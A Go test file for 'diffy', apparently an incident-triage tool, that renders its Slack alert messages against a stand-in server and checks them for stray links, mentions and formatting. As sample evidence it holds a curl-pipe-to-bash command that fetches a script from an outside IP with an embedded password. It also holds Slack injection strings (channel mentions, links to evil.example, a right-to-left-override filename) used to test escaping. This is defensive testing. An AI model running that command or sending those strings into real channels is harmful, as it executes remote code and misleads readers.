package browser

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"diffy/pkg/cloud"
	"diffy/pkg/local"
	"diffy/pkg/pipeline"
	"diffy/pkg/triage"
)

// previews is where the messages are left that Slack would get, each as the JSON
// that is sent and as a picture of it.
const previews = "../../out/slack"

// TestSlackPreview makes the message of each kind of end, lets the function show it
// to a stand-in for Slack, and draws what came there on a phone and on a desk.
func TestSlackPreview(t *testing.T) {
	path, err := installed()
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		fmt.Println("the preview is NOT RUN:", err)
		return
	}
	must(t, os.MkdirAll(previews, 0o755))
	c := start(t, path)
	for _, kind := range []struct {
		name string
		make func(*office) pipeline.Message
	}{
		{"clean", (*office).clean},
		{"one", (*office).one},
		{"many", (*office).many},
		{"none", (*office).none},
		{"failed", (*office).failed},
		{"test", (*office).sample},
		{"baseline", (*office).baseline},
		{"hostile", (*office).hostile},
	} {
		t.Run(kind.name, func(t *testing.T) {
			o := &office{T: t}
			sent := o.shown(kind.make(o))
			must(t, os.WriteFile(filepath.Join(previews, kind.name+".json"), sent, 0o644))
			draw(c.with(t), kind.name, sent)
		})
	}
}

// draw leaves a picture of a message, and finds in it no link, mention or format
// that is not diffy's own.
func draw(c *chromium, name string, sent []byte) {
	page, err := slackPage(sent)
	must(c.t, err)
	s := serve(c.t, page)
	c.use(screen{width: 1100, height: 700})
	c.open(s.URL)
	c.picture(filepath.Join(previews, name+".png"))
	for _, fault := range js[[]string](c, `[...document.querySelectorAll('.message')].flatMap(m => {
		const out = [];
		if (m.scrollWidth > m.clientWidth) out.push('wider than its column by ' + (m.scrollWidth - m.clientWidth));
		if (m.querySelector('.mention')) out.push('mentions ' + m.querySelector('.mention').textContent);
		for (const a of m.querySelectorAll('a')) if (!a.href.startsWith('https://eu-west-1.console.aws.amazon.com/')) out.push('links to ' + a.href);
		if (m.querySelector('i, s, blockquote')) out.push('formats ' + m.querySelector('i, s, blockquote').textContent);
		return out;
	})`) {
		c.t.Error(fault)
	}
}

// office is where messages are made: the handlers of a deployment in eu-west-1.
type office struct {
	*testing.T
	published []pipeline.Message
	result    []byte
}

var deployment = cloud.Config{
	Account: "111122223333", Region: "eu-west-1", Work: "diffy-work",
	StateMachine: "arn:aws:states:eu-west-1:111122223333:stateMachine:diffy-triage",
}

// Publish implements pipeline.Publisher.
func (o *office) Publish(_ context.Context, m pipeline.Message) error {
	o.published = append(o.published, m)
	return nil
}

// Get implements pipeline.Objects: there is one, the result.
func (o *office) Get(context.Context, pipeline.Object, int64) ([]byte, error) { return o.result, nil }

// Put implements pipeline.Objects.
func (o *office) Put(context.Context, pipeline.Object, []byte) error { return nil }

// PutOnce implements pipeline.Objects.
func (o *office) PutOnce(context.Context, pipeline.Object, []byte) error { return nil }

var night = time.Date(2026, 11, 24, 3, 12, 0, 0, time.UTC)

func clock() time.Time { return night }

const run = "shop-web-202611240312-1f3a"

// ended is the message of a run that has this result.
func (o *office) ended(r *triage.Result, purpose triage.Purpose) pipeline.Message {
	o.Helper()
	runs := local.NewTable(o.TempDir())
	r.Run.ID, r.Run.Finished = run, "2026-11-24T03:19:44Z"
	if r.Run.Trigger != nil {
		r.Run.Trigger.Time = "2026-11-24T03:07:58Z"
	}
	var err error
	o.result, err = json.Marshal(r)
	must(o.T, err)
	must(o.T, runs.SaveRun(o.Context(), pipeline.Run{
		ID: run, GroupKey: r.Group.Key, Incident: r.Run.Incident, Account: deployment.Account, Region: deployment.Region, Purpose: purpose,
	}))
	_, err = pipeline.Publish{
		Objects: o, Runs: runs, Locks: runs, Publisher: o, Report: deployment.ReportAddress, Now: clock, Log: slog.New(slog.DiscardHandler),
	}.Handle(o.Context(), pipeline.RunIn{Run: run})
	must(o.T, err)
	return o.published[0]
}

func (o *office) clean() pipeline.Message {
	r := read(o.T, "shop")
	r.Findings, r.Stories, r.Pivots = nil, nil, r.Pivots[2:]
	for i := range r.Hosts {
		h := &r.Hosts[i]
		h.Outlier, h.Findings, h.Status, h.Reason, h.Errors = false, 0, triage.Examined, "", nil
	}
	r.Group.Examined, r.Group.Partial, r.Group.NotExamined = r.Group.HostsRequested, 0, 0
	r.Pivots[0].NotSeen, r.Pivots[0].Unknown = append(r.Pivots[0].NotSeen, r.Pivots[0].Unknown...), nil
	return o.ended(r, triage.PurposeTriage)
}

func (o *office) one() pipeline.Message {
	r := read(o.T, "shop")
	r.Hosts[1].Outlier, r.Hosts[1].Findings = false, 0
	f := &r.Findings[5]
	f.Hosts, f.Key["command"] = []string{r.Hosts[0].Host}, "curl -s -u ops:"+"Tr0ub4dor http://203.0.113.77/u.sh | bash"
	r.Findings = append([]triage.Finding{*f}, r.Findings...)
	return o.ended(r, triage.PurposeTriage)
}

func (o *office) many() pipeline.Message {
	r := grown(read(o.T, "shop"), 212, 2000)
	for i := range r.Hosts {
		h := &r.Hosts[i]
		h.Outlier = i < 37
		switch {
		case i >= 205:
			h.Status, h.Reason = triage.NotExamined, "SSM: TimedOut, DeliveryTimedOut"
		case i >= 202:
			h.Status, h.Reason = triage.NotExamined, "not managed by SSM"
		case i >= 190:
			h.Status, h.Reason = triage.Partial, "evidence cut after query 41 of 48"
		}
	}
	r.Group.Examined, r.Group.Partial, r.Group.NotExamined = 190, 12, 10
	return o.ended(r, triage.PurposeTriage)
}

func (o *office) none() pipeline.Message {
	r := read(o.T, "shop")
	r.Findings, r.Stories, r.Pivots = nil, nil, nil
	for i := range r.Hosts {
		h := &r.Hosts[i]
		h.Outlier, h.Findings, h.Status, h.Reason, h.Errors = false, 0, triage.NotExamined, "cannot reach S3", nil
		if i%4 == 0 {
			h.Reason = "SSM: TimedOut, DeliveryTimedOut"
		}
	}
	r.Group.Examined, r.Group.Partial, r.Group.NotExamined = 0, 0, r.Group.HostsRequested
	return o.ended(r, triage.PurposeTriage)
}

func (o *office) failed() pipeline.Message {
	runs := local.NewTable(o.TempDir())
	must(o.T, runs.SaveRun(o.Context(), pipeline.Run{
		ID: run, GroupKey: "asg:shop-web", Incident: "INC-2026-0042", Account: deployment.Account, Region: deployment.Region, Purpose: triage.PurposeTriage,
	}))
	_, err := pipeline.Fail{
		Runs: runs, Locks: runs, Publisher: o, Execution: deployment.ExecutionAddress, Now: clock, Log: slog.New(slog.DiscardHandler),
	}.Handle(o.Context(), pipeline.FailIn{Run: run, Error: &pipeline.Caught{
		Error: "DocumentChanged", Cause: `{"errorMessage":"document diffy-collect in 111122223333/eu-west-1 is not the one that was deployed: its content differs","errorType":"DocumentChanged"}`,
	}})
	must(o.T, err)
	return o.published[0]
}

func (o *office) sample() pipeline.Message {
	event, err := os.ReadFile("../../events/guardduty-sample-flag.json")
	must(o.T, err)
	runs := local.NewTable(o.TempDir())
	_, err = pipeline.Trigger{Storm: runs, Runs: runs, Publisher: o, Now: clock, Log: slog.New(slog.DiscardHandler)}.Handle(o.Context(), event)
	must(o.T, err)
	return o.published[0]
}

func (o *office) baseline() pipeline.Message {
	r := read(o.T, "shop")
	r.Run.Trigger, r.Run.Incident, r.Pivots = nil, run, nil
	r.Hosts[1].Outlier, r.Hosts[0].Suspect = false, false
	return o.ended(r, triage.PurposeBaseline)
}

func (o *office) hostile() pipeline.Message {
	r := read(o.T, "shop")
	attempts := []string{
		"<!channel> <@U0123456> <http://evil.example|Open the report>", "*bold* _italic_ ~gone~ `code` :skull:",
		"http://evil.example/x evil.com @here\n> quote\u202egnp.exe", "` <!here> `",
	}
	for i := range r.Findings {
		for column := range r.Findings[i].Key {
			r.Findings[i].Key[column] = attempts[i%len(attempts)]
		}
	}
	for i := range r.Hosts {
		if r.Hosts[i].Reason != "" {
			r.Hosts[i].Reason = attempts[i%len(attempts)]
		}
	}
	r.Group.Key, r.Run.Incident, r.Pivots[0].Value = "tag:<!channel>*x*", attempts[1], attempts[0]
	return o.ended(r, triage.PurposeTriage)
}

// shown lets the function show a message, and returns what Slack was sent.
func (o *office) shown(m pipeline.Message) []byte {
	o.Helper()
	var sent []byte
	slack := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sent, _ = io.ReadAll(r.Body)
		_, _ = io.WriteString(w, `{"ok":true,"channel":"C0123456789","ts":"1795490384.000100"}`)
	}))
	defer slack.Close()
	event, err := json.Marshal(map[string]any{"Records": []any{map[string]any{"Sns": map[string]any{"MessageId": "m-1", "Message": string(m.Alert)}}}})
	must(o.T, err)
	var in pipeline.SlackIn
	must(o.T, json.Unmarshal(event, &in))
	secret := cloud.SlackSecret{Token: "xoxb-made-up", Channel: "C0123456789", API: slack.URL}
	out, err := pipeline.Slack{
		Threads: threads{}, Channel: cloud.NewSlack(func(context.Context) (cloud.SlackSecret, error) { return secret, nil }),
		Owner: func(context.Context) string { return "call-1" }, Wait: cloud.Wait, Now: clock, Log: slog.New(slog.DiscardHandler),
	}.Handle(o.Context(), in)
	must(o.T, err)
	if len(out.Shown) != 1 || strings.Contains(string(sent), "Tr0ub4dor") {
		o.Fatalf("shown %v: %s", out.Shown, sent)
	}
	var pretty bytes.Buffer
	must(o.T, json.Indent(&pretty, sent, "", "  "))
	return append(pretty.Bytes(), '\n')
}

// threads remember nothing: each message is the first of its incident.
type threads struct{}

// Claim implements pipeline.Threads.
func (threads) Claim(_ context.Context, incident, _ string, _, _ time.Time) (pipeline.Thread, error) {
	return pipeline.Thread{Incident: incident}, nil
}

// Keep implements pipeline.Threads.
func (threads) Keep(context.Context, pipeline.Thread, string) error { return nil }
